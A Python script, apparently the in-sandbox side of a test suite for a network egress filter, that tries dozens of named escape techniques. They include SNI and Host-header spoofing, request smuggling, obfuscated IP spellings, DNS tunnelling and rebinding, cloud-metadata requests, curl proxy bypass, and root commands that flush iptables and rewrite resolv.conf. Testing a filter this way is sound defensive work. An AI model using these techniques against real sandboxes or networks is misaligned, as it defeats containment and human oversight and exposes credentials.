"""Runs inside the sandbox, by its own Python: one attack per run. ``inside.py NAME FACTS``.

``FACTS`` is JSON: the addresses and names of the far sides. What is printed is what the attacker saw.
"""

# mypy: disable-error-code="no-untyped-def, no-untyped-call"

import contextlib
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

FACTS = json.loads(sys.argv[2])
HOME, ELSEWHERE = FACTS["home"], FACTS["elsewhere"]
ALLOWED, DENIED, RULED, REBIND = FACTS["allowed"], FACTS["denied"], FACTS["ruled"], FACTS["rebind"]
PATIENCE_S = 4


def say(address, port, *pieces, pause=0.0):
    """Whatever comes back for these bytes."""
    with socket.create_connection((address, port), PATIENCE_S) as sock:
        for piece in pieces:
            sock.sendall(piece)
            time.sleep(pause)
        sock.settimeout(PATIENCE_S)
        return listen(sock)


def listen(sock):
    data = b""
    try:
        while piece := sock.recv(65536):
            data += piece
            if data.count(b"at=") >= FACTS.get("answers", 1):
                break
    except OSError as error:
        return data.decode(errors="replace") + f" [{error}]"
    return data.decode(errors="replace")


def get(host, target="/", method="GET", more=""):
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


def tls(address, name, port=443, request=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    plain = socket.create_connection((address, port), PATIENCE_S)
    with context.wrap_socket(plain, server_hostname=name) as sock:
        sock.sendall(request or get(name or address))
        return listen(sock)


def hello(name):
    """The first bytes of a TLS client that wants ``name``."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    return outgoing.read()


def fragmented(name):
    """The same in records of a few bytes each."""
    body = hello(name)[5:]
    return b"".join(
        b"\x16\x03\x01" + struct.pack(">H", len(body[at : at + 40])) + body[at : at + 40]
        for at in range(0, len(body), 40)
    )


def datagram(address, port, data):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(data, (address, port))
        return sock.recv(4096).decode(errors="replace")


def query(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


def resolve(name):
    return " ".join(sorted({str(found[4][0]) for found in socket.getaddrinfo(name, 80, socket.AF_INET)}))


def spelled(text):
    """A resolver of the C library reads many spellings; every one is one address."""
    return say(socket.gethostbyname(text), 80, get(text))


def number():
    return struct.unpack(">I", socket.inet_aton(ELSEWHERE))[0]


def parts():
    return [int(part) for part in ELSEWHERE.split(".")]


def known(*rest, **more):
    """To the allowed host, by the address that its name has."""
    return say(resolve(ALLOWED).split()[0], 80, *rest, **more)


def root(*commands):
    """Root inside does what it likes with its own network, and then tries again."""
    said = [f"uid {os.getuid()}"]
    for command in commands:
        try:
            done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=10)
            said.append(f"{command.split()[0]}={done.returncode}")
        except subprocess.TimeoutExpired:
            said.append(f"{command.split()[0]}=timeout")
    with open("/etc/resolv.conf", "w") as file:
        file.write(f"nameserver {ELSEWHERE}\n")
    with open("/etc/hosts", "a") as file:
        file.write(f"{ELSEWHERE} {DENIED}\n")
    for attempt in (
        lambda: say(ELSEWHERE, 80, get(ELSEWHERE)),
        lambda: say(DENIED, 80, get(DENIED)),
        lambda: datagram(ELSEWHERE, 9999, b"leak"),
        raw_frame,
        raw_packet,
    ):
        try:
            said.append(str(attempt()))
        except OSError as error:
            said.append(f"[{error}]")
    return " ".join(said)


def raw_frame():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
        names = [name for _, name in socket.if_nameindex()]
        sock.bind((names[-1], 0))
        sock.send(b"\xff" * 6 + b"\0" * 6 + b"\x08\0" + b"leak" * 16)
        return f"a frame on {names[-1]}, of {names}"


def raw_packet():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", (ELSEWHERE, 0))
        sock.settimeout(1)
        return sock.recv(100).hex()


def redirected():
    import urllib.request

    with urllib.request.urlopen(f"http://{ALLOWED}/redirect", timeout=PATIENCE_S) as answer:
        return answer.read().decode()


def past_the_proxy():
    """A program that is told to go by a proxy, and does not."""
    os.environ["http_proxy"] = os.environ["https_proxy"] = f"http://{ALLOWED}:80"
    done = subprocess.run(
        ["curl", "-sS", "-m", "4", "--noproxy", "*", f"http://{ELSEWHERE}/"], capture_output=True, text=True
    )
    direct = done.stdout + done.stderr
    done = subprocess.run(
        ["curl", "-sS", "-m", "4", "-p", f"http://{DENIED}/"], capture_output=True, text=True
    )
    return direct + done.stdout + done.stderr


def slowly(data, address, pieces=12):
    size = max(1, len(data) // pieces)
    cut = [data[at : at + size] for at in range(0, len(data), size)]
    return say(address, 443 if data[:1] == b"\x16" else 80, *cut, pause=0.05)


def silent(address):
    with socket.create_connection((address, 80), PATIENCE_S) as sock:
        sock.settimeout(2)
        return sock.recv(100).decode()


def half_closed():
    with socket.create_connection((ELSEWHERE, 443), PATIENCE_S) as sock:
        sock.sendall(hello(ALLOWED)[:60])
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(2)
        return sock.recv(100).decode()


SMUGGLED = (
    f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
).encode() + get(DENIED, "/second")

ATTACKS = {
    "http": lambda: known(get(ALLOWED)),
    "https": lambda: tls(ALLOWED, ALLOWED),
    "rule-get": lambda: say(RULED, 80, get(RULED, "/open/a?b=c")),
    "sni-spoofed": lambda: tls(ELSEWHERE, ALLOWED),
    "sni-missing": lambda: tls(resolve(ALLOWED), None),
    "sni-denied": lambda: tls(resolve(ALLOWED), DENIED),
    "sni-fragmented": lambda: say(ELSEWHERE, 443, fragmented(DENIED)),
    "host-spoofed": lambda: say(ELSEWHERE, 80, get(ALLOWED)),
    "host-denied": lambda: known(get(DENIED)),
    "host-missing": lambda: known(b"GET / HTTP/1.0\r\n\r\n"),
    "host-twice": lambda: known(get(ALLOWED, more=f"Host: {DENIED}\r\n")),
    "host-and-target": lambda: known(get(ALLOWED, f"http://{DENIED}/")),
    "fronted-later": lambda: known(get(ALLOWED), get(DENIED, "/second"), pause=0.5),
    "smuggled": lambda: known(SMUGGLED),
    "connect-relayed": lambda: known(get(DENIED + ":443", DENIED + ":443", "CONNECT")),
    "connect-own-name": lambda: known(get(ALLOWED + ":443", ALLOWED + ":443", "CONNECT")),
    "upgrade-h2c": lambda: known(get(ALLOWED, more="Connection: Upgrade\r\nUpgrade: h2c\r\n")),
    "http2-plain": lambda: known(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "http-denied": lambda: say(ELSEWHERE, 80, get(DENIED)),
    "ip-dotted": lambda: spelled(ELSEWHERE),
    "ip-decimal": lambda: spelled(str(number())),
    "ip-hex": lambda: spelled(hex(number())),
    "ip-octal": lambda: spelled(".".join(f"0{part:o}" for part in parts())),
    "ip-short": lambda: spelled(f"{parts()[0]}.{number() & 0xFFFFFF}"),
    "ip-mixed": lambda: spelled(f"{parts()[0]:#x}.{parts()[1]}.{number() & 0xFFFF:#x}"),
    "ip-mapped": lambda: say(f"::ffff:{ELSEWHERE}", 80, get(f"[::ffff:{ELSEWHERE}]")),
    "ip-nat64": lambda: say(f"64:ff9b::{ELSEWHERE}", 80, get(DENIED)),
    "ipv6": lambda: say("2001:db8::1", 80, get(DENIED)),
    "other-port": lambda: say(ELSEWHERE, 2222, b"hello\n"),
    "udp": lambda: datagram(ELSEWHERE, 9999, b"leak"),
    "udp6": lambda: datagram("2001:db8::1", 9999, b"leak"),
    "quic": lambda: datagram(HOME, 443, b"\xc0\0\0\0\x01" + bytes(1200)),
    "doh": lambda: tls(ELSEWHERE, "dns.google", request=get("dns.google", "/dns-query?dns=AAAA")),
    "dot": lambda: tls(ELSEWHERE, DENIED, 853),
    "dns-tunnel": lambda: resolve("c2VjcmV0LWRhdGE." + DENIED),
    "dns-tunnel-below": lambda: resolve("c2VjcmV0LWRhdGE." + ALLOWED),
    "dns-tunnel-txt": lambda: datagram(ELSEWHERE, 53, query("c2VjcmV0." + DENIED, 16)),
    "dns-direct": lambda: datagram(ELSEWHERE, 53, query(DENIED)),
    "dns-direct-tcp": lambda: say(ELSEWHERE, 53, struct.pack(">H", len(query(DENIED))) + query(DENIED)),
    "rebinding": lambda: resolve(REBIND),
    "rebinding-direct": lambda: say("169.254.169.254", 80, get(REBIND)),
    "redirect": redirected,
    "metadata-aws": lambda: say("169.254.169.254", 80, get("169.254.169.254")),
    "metadata-aws6": lambda: say("fd00:ec2::254", 80, get("[fd00:ec2::254]")),
    "metadata-azure": lambda: say("168.63.129.16", 80, get("168.63.129.16")),
    "metadata-alibaba": lambda: say("100.100.100.200", 80, get("100.100.100.200")),
    "metadata-oracle": lambda: say("192.0.0.192", 80, get("192.0.0.192")),
    "metadata-google": lambda: resolve("metadata.google.internal"),
    "metadata-fronted": lambda: say("169.254.169.254", 80, get(ALLOWED)),
    "private": lambda: say("10.0.0.1", 80, get("10.0.0.1")),
    "host-itself": lambda: say(FACTS["host"], FACTS["host_port"], get(FACTS["host"])),
    "no-proxy": past_the_proxy,
    "half-open": half_closed,
    "slow-hello": lambda: slowly(hello(DENIED), ELSEWHERE),
    "slow-request": lambda: slowly(get(DENIED), ELSEWHERE),
    "silent": lambda: silent(ELSEWHERE),
    "rule-method": lambda: say(RULED, 80, get(RULED, "/open/a", "DELETE")),
    "rule-path": lambda: say(RULED, 80, get(RULED, "/closed")),
    "rule-path-dots": lambda: say(RULED, 80, get(RULED, "/open/../closed")),
    "rule-path-escaped": lambda: say(RULED, 80, get(RULED, "/open/%2e%2e/closed")),
    "rule-port": lambda: say(RULED, 2222, get(RULED, "/open/a")),
    "rule-tls": lambda: tls(RULED, RULED, request=get(RULED, "/open/a")),
    "root-firewall": lambda: root(
        "iptables -F",
        "iptables -t nat -F",
        "nft flush ruleset",
        "ip route flush table all",
        f"ip route add {ELSEWHERE} dev eth0",
        "ip addr add 192.0.2.9/24 dev eth0",
        "sysctl -w net.ipv4.ip_forward=1",
    ),
}

if __name__ == "__main__":
    try:
        seen = str(ATTACKS[sys.argv[1]]())
    except (OSError, ValueError, IndexError) as error:
        seen = f"[{type(error).__name__}: {error}]"
    sys.stdout.write(seen + "\n")
